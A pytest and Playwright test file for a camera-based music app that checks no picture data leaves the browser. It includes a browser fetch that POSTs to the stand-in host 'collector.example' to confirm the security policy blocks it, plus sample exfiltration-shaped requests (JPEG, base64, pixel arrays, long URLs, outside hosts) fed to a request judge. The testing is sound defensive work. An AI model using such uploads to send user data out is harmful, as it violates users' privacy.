"""No picture leaves the device: a whole session is recorded and judged."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from playwright.sync_api import expect

from tests.e2e.browser import sample
from tests.e2e.conftest import NewPage
from tests.e2e.conversation import Recorder, Said, faults
from tests.e2e.server import Server
from tests.e2e.youtube import cut_off_youtube


def test_nothing_of_the_picture_leaves_the_page_in_a_whole_session(
    new_page: NewPage, listening_server: Server
) -> None:
    page = new_page(locale="en-US")
    recorder = Recorder(page.context)
    page.goto(listening_server.url)
    page.get_by_role("link", name="Start", exact=True).click()
    page.get_by_role("button", name="Start with the camera").click()
    with page.expect_request("**/api/observations", timeout=60_000):
        expect(page.get_by_test_id("now-playing")).to_have_attribute(
            "data-state", "playing", timeout=40_000
        )
    page.get_by_role("button", name="Next song").click()
    page.get_by_role("button", name="I like it").click()
    page.get_by_role("button", name="Stop song and camera").click()
    page.get_by_role("link", name="Today", exact=True).click()
    expect(page.get_by_test_id("day-songs")).to_contain_text("Sine")

    asked = {said.url.removeprefix(listening_server.url).split("?")[0] for said in recorder.said}
    assert {"/api/recommendations", "/api/plays", "/api/observations"} <= asked
    assert faults(recorder.said, listening_server.url) == []


def test_the_browser_itself_refuses_to_send_anything_elsewhere(
    new_page: NewPage, server: Server
) -> None:
    page = new_page(clip=None)
    cut_off_youtube(page.context)
    page.goto(server.url)
    refusal = page.evaluate(
        """() => new Promise((resolve) => {
          document.addEventListener('securitypolicyviolation', (violation) =>
            resolve(violation.effectiveDirective));
          fetch('https://collector.example/', { method: 'POST', body: 'x' }).catch(() => {});
        })"""
    )
    assert refusal == "connect-src"


JPEG = sample("single_face.jpg").read_bytes()


@pytest.mark.parametrize(
    "said",
    [
        Said("POST", "http://own/api/x", "image/jpeg", JPEG[:4000]),
        Said("POST", "http://own/api/x", "application/json", b'{"a": "' + b"x" * 9000 + b'"}'),
        Said("POST", "http://own/api/x", "application/json", b'{"a": "/9j/4AAQSkZJRgABAQ"}'),
        Said(
            "POST",
            "http://own/api/x",
            "application/json",
            json.dumps([128] * 300, separators=(",", ":")).encode(),
        ),
        Said("GET", "http://own/api/x?p=" + "a" * 3000, "", b""),
        Said("GET", "https://elsewhere.example/", "", b""),
    ],
    ids=["jpeg", "large", "base64", "pixels", "address", "elsewhere"],
)
def test_the_judge_of_requests_notices(said: Said) -> None:
    assert faults([said], "http://own")


def test_the_server_accepts_no_picture_where_it_accepts_observations(
    server: Server, tmp_path: Path, new_page: NewPage
) -> None:
    page = new_page(clip=None)
    page.goto(server.url)
    answer = page.request.post(
        f"{server.url}/api/observations",
        data=JPEG,
        headers={"content-type": "image/jpeg", "origin": server.url},
    )
    assert answer.status in {413, 415}
